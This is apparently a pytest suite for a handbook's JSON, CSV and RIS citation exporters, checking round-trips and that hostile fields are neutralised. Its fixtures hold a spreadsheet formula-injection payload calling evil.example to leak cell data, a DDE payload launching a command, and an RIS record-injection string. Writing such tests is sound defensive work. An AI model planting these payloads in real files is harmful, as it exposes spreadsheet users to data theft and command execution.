"""Exporters: JSON, CSV and RIS parse back to what the corpus holds, and hostile text cannot run or add lines."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from handbook.content.corpus import load_corpus
from handbook.pages.exports import (
    CSV_COLUMNS,
    _ris_line,
    evidence_csv,
    evidence_json,
    evidence_ris,
    export_files,
    glossary_json,
)
from handbook.safety.spreadsheet_cells import FORMULA_STARTS, neutralise_cell
from tests.support import SAMPLE


@pytest.fixture(scope="module")
def corpus():
    result = load_corpus(SAMPLE)
    assert not result.problems
    return result.corpus


def test_glossary_json_round_trips_with_special_characters(corpus):
    data = json.loads(glossary_json(corpus).decode("utf-8"))
    assert data["count"] == 3 and data["licence"] == "CC-BY-4.0"
    terms = {t["id"]: t for t in data["terms"]}
    assert terms["loneliness"]["working_definition"] == (
        'The painful gap between the relationships we have and those we want: "<not> & {{ escaped }}" ŵ ŷ.'
    )
    co = terms["co-production"]
    assert co["aliases"] == ["coproduction", "co-produced"]
    assert co["group"] == {"id": "the-work", "title": "The work of putting relationships first"}
    assert co["perspectives"][0]["source"] == {"title": "Crossing the great divide", "year": 1996, "url": None}
    assert co["perspectives"][1]["stance"] == "critiques" and co["contested"] is True
    assert terms["relational-council"]["use_with_care"]["alternatives"] == ["relational local government"]
    assert co["page"] == "glossary/co-production/"
    assert "ŵ ŷ" in glossary_json(corpus).decode("utf-8")  # not \u escapes


def test_evidence_json_keeps_rating_and_direction_apart(corpus):
    data = json.loads(evidence_json(corpus))
    holt = next(e for e in data["evidence"] if e["id"] == "holt-lunstad-2010")
    assert holt["confidence"] == {
        "rating": 4,
        "label": "Strong",
        "rationale": "A large meta-analysis of many independent studies with consistent results.",
    }
    assert holt["findings_direction"] == "positive"
    assert holt["doi"] == "10.1371/journal.pmed.1000316" and holt["authors"][0] == "Holt-Lunstad, Julianne"
    assert [e["id"] for e in data["evidence"]] == ["holt-lunstad-2010", "russell-1996"]  # newest first


def test_evidence_csv_parses_back(corpus):
    text = evidence_csv(corpus).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    russell = next(r for r in rows if r["id"] == "russell-1996")
    assert russell["title"] == "UCLA Loneliness Scale (Version 3): reliability, validity, and factor structure"
    assert russell["themes"] == "measurement; loneliness"
    assert russell["confidence_rating"] == "3" and russell["confidence_label"] == "Good"
    assert russell["doi"] == "" and russell["open_access"] == ""
    holt = next(r for r in rows if r["id"] == "holt-lunstad-2010")
    assert holt["authors"] == "Holt-Lunstad, Julianne; Smith, Timothy B.; Layton, J. Bradley"
    assert holt["open_access"] == "true"


def parse_ris(text: str) -> list[list[tuple[str, str]]]:
    """A strict reader: every line is 'XX  - value', records end with 'ER  - '."""
    records, current = [], []
    for line in text.split("\r\n"):
        if not line:
            continue
        assert len(line) >= 6 and line[2:6] == "  - " and line[:2].isalnum() and line[:2].isupper(), line
        tag, value = line[:2], line[6:]
        if tag == "TY":
            assert not current, "TY inside an unfinished record"
        current.append((tag, value))
        if tag == "ER":
            records.append(current)
            current = []
    assert not current, "last record not closed with ER"
    return records


def test_ris_is_valid_and_complete(corpus):
    text = evidence_ris(corpus).decode("utf-8")
    assert "\n" not in text.replace("\r\n", "")
    records = parse_ris(text)
    assert len(records) == 2
    holt = records[0]
    assert holt[0] == ("TY", "JOUR") and holt[-1] == ("ER", "")
    assert [v for t, v in holt if t == "AU"] == ["Holt-Lunstad, Julianne", "Smith, Timothy B.", "Layton, J. Bradley"]
    fields = dict(holt)
    assert fields["PY"] == "2010" and fields["JO"] == "PLoS Medicine"
    assert fields["TI"] == "Social relationships and mortality risk: a meta-analytic review"
    assert fields["DO"] == "10.1371/journal.pmed.1000316"
    assert fields["UR"] == "https://doi.org/10.1371/journal.pmed.1000316"
    assert fields["N1"].startswith("Confidence 4/4 (Strong): ")
    assert "DO" not in dict(records[1]) and "UR" not in dict(records[1])


def test_export_files_land_beside_their_index_pages(corpus):
    assert [f.src_uri for f in export_files(corpus)] == [
        "glossary/glossary.json",
        "evidence/evidence.json",
        "evidence/evidence.csv",
        "evidence/evidence.ris",
    ]


# -- hostile content (issue 16): formulas and injected RIS lines --------------------------
@pytest.mark.parametrize("start", list(FORMULA_STARTS))
def test_each_formula_character_gets_the_text_mark(start):
    assert neutralise_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Plain title", "", " =1+1", "'quoted", "1996", "10.1371/x", 1996, -5, 0, None, True])
def test_other_values_stay_as_they_are(value):
    assert neutralise_cell(value) is value or neutralise_cell(value) == value


HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
INJECTED_TITLE = "Real title\nER  - \nTY  - JOUR\nTI  - Injected"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, make_project):
    """The sample with formulas in every free-text field of one evidence item and a newline attack in another."""
    root = make_project(tmp_path_factory.mktemp("hostile"), git=False)
    russell = root / "docs/evidence/russell-1996.md"
    russell.write_text(
        russell.read_text(encoding="utf-8")
        .replace(
            'title: "UCLA Loneliness Scale (Version 3): reliability, validity, and factor structure"',
            f"title: {json.dumps(HOSTILE_TITLE)}",
        )
        .replace('authors: ["Russell, Daniel W."]', 'authors: ["@SUM(1+1)*cmd|\' /C calc\'!A0", "Russell, Daniel W."]')
        .replace("publisher: Journal of Personality Assessment", "publisher: +Journal")
        .replace("rationale: A well-tested scale, validated across several samples.", "rationale: -2+3")
        .replace("confidence:", 'key_findings: ["=1+1", "fine"]\nconfidence:'),
        encoding="utf-8",
    )
    holt = root / "docs/evidence/holt-lunstad-2010.md"
    text = holt.read_text(encoding="utf-8")
    title = next(line for line in text.splitlines() if line.startswith("title:"))
    holt.write_text(text.replace(title, f"title: {json.dumps(INJECTED_TITLE)}"), encoding="utf-8")
    result = load_corpus(root)
    assert [str(p) for p in result.problems] == []
    return result.corpus


def test_csv_text_cells_never_start_a_formula(hostile):
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(evidence_csv(hostile).decode("utf-8-sig"), newline=""))}
    russell = rows["russell-1996"]
    assert russell["title"] == "'" + HOSTILE_TITLE
    assert russell["authors"] == "'@SUM(1+1)*cmd|' /C calc'!A0; Russell, Daniel W."
    assert russell["publisher"] == "'+Journal"
    assert russell["confidence_rationale"] == "'-2+3"
    assert russell["key_findings"] == "'=1+1 | fine"
    assert russell["year"] == "1996" and russell["confidence_rating"] == "3"  # numbers stay numbers
    for row in rows.values():
        assert not [cell for cell in row.values() if cell.startswith(FORMULA_STARTS)]
    # The line breaks stay inside one quoted cell: still two records.
    assert rows["holt-lunstad-2010"]["title"] == INJECTED_TITLE and len(rows) == 2


def test_ris_values_cannot_add_lines_or_start_formulas(hostile):
    text = evidence_ris(hostile).decode("utf-8")
    records = parse_ris(text)
    assert len(records) == 2  # the injected TY/ER lines did not start or end a record
    holt = dict(next(r for r in records if ("ID", "holt-lunstad-2010") in r))
    assert holt["TI"] == "Real title ER - TY - JOUR TI - Injected"
    russell = next(r for r in records if ("ID", "russell-1996") in r)
    fields = dict(russell)
    assert fields["TI"] == "'" + HOSTILE_TITLE
    assert [v for t, v in russell if t == "AU"] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "Russell, Daniel W."]
    assert fields["JO"] == "'+Journal"  # a survey: a journal article
    assert fields["PY"] == "1996"


@pytest.mark.parametrize("separator", ["\n", "\r", "\r\n", "\x85", "\u2028", "\u2029", "\x0b", "\x0c"])
def test_no_line_break_survives_in_a_ris_value(separator):
    line = _ris_line("TI", f"A title{separator}TY  - JOUR")
    assert line == "TI  - A title TY - JOUR" and len(line.splitlines()) == 1


def test_json_keeps_hostile_values_exactly(hostile):
    data = json.loads(evidence_json(hostile))
    russell = next(e for e in data["evidence"] if e["id"] == "russell-1996")
    assert russell["title"] == HOSTILE_TITLE and russell["publisher"] == "+Journal"
    assert russell["confidence"]["rationale"] == "-2+3" and russell["key_findings"] == ["=1+1", "fine"]
    holt = next(e for e in data["evidence"] if e["id"] == "holt-lunstad-2010")
    assert holt["title"] == INJECTED_TITLE


@given(st.text())
def test_no_text_cell_starts_a_formula(text):
    cell = neutralise_cell(text)
    assert not cell.startswith(FORMULA_STARTS) and cell in (text, "'" + text)
